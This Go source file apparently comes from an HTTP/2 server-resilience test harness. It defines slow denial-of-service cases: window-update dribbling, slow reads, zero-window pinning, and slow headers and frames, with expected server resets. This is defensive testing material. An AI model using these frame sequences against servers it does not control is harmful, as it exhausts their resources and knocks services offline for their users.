package hostile

import (
	"time"

	"golang.org/x/net/http2"

	"github.com/hopscope/hopscope/cmd/hoplab/internal/bench/raw"
)

const (
	// patient is how long attackers are watched who should be ended after a while:
	// beyond the ten seconds that a header block or a handshake may take, and the
	// one until somebody looks.
	patient = 12 * time.Second
	// pinned is how long those are watched whose memory grows.
	pinned = 5 * time.Second
	// large is how many bytes an answer has that is not read.
	large = 1 << 20
	// sip is how many bytes are read at a time.
	sip = 100
	// maxWindow is the largest window that there is (RFC 9113 §6.9.1).
	maxWindow = 1<<31 - 1
)

// bounded is how attacks should end that look like a slow client for a while.
const bounded = "bounded; reset after slow_peer_timeout"

// slow returns the attacks that keep something busy for long.
func slow() []Attack {
	return []Attack{
		{
			ID: "dribble", Title: "data dribble: 400 streams whose windows are opened a byte at a time", Refs: "CVE-2019-9511",
			Connections: 4, Asks: 100, Rate: 4000, Lasts: pinned, Right: []string{calm, "RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM CANCEL"},
			Begin: begin(0),
			Step:  func(c *Conn, i int) { c.do(c.frames.WriteWindowUpdate(uint32(2*(i%100)+1), 1)) },
		},
		{
			ID: "slow-read", Title: "slow read: 400 responses of 1 MiB, read at 1 kB/s", Refs: "CVE-2019-9517",
			Connections: 20, Asks: 20, Rate: 200, Lasts: pinned, Bound: bounded, Deaf: true,
			Begin: func(c *Conn) {
				begin(maxWindow)(c)
				c.do(c.frames.WriteWindowUpdate(0, maxWindow-65535))
			},
			Step: func(c *Conn, _ int) { c.sip(sip) },
		},
		{
			ID: "zero-window", Title: "zero-window pinning: 400 responses of 1 MiB that may not be sent",
			Connections: 4, Asks: 100, Lasts: pinned, Bound: bounded,
			Begin: begin(0),
		},
		{
			ID: "slow-headers", Title: "slow headers: 50 header blocks that a CONTINUATION of one byte each second does not end",
			Connections: 50, Rate: 50, Lasts: patient, Right: []string{calm, protocol, "GOAWAY NO_ERROR", "closed"},
			First: open,
			Step:  func(c *Conn, _ int) { c.do(c.frames.WriteContinuation(1, false, []byte{0x80 | 2})) },
		},
		{
			ID: "slow-frame", Title: "slow frame: 50 HEADERS that arrive by a byte each fifth of a second",
			Connections: 50, Rate: 250, Lasts: patient, Right: []string{calm, protocol, "GOAWAY NO_ERROR", "closed"},
			First: func(c *Conn) {
				c.raw(0, 0x10, 0, byte(http2.FrameHeaders), byte(http2.FlagHeadersEndHeaders), 0, 0, 0, 1)
			},
			Step: func(c *Conn, _ int) { c.raw(0x80 | 2) },
		},
	}
}

// begin returns what writes the preface and SETTINGS with an initial window.
func begin(window uint32) func(c *Conn) {
	return func(c *Conn) { c.begin(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}) }
}

// ask asks for large answers.
func (c *Conn) ask(n int) {
	for range n {
		c.headers(c.request("GET", raw.Sized(large)), true)
	}
}
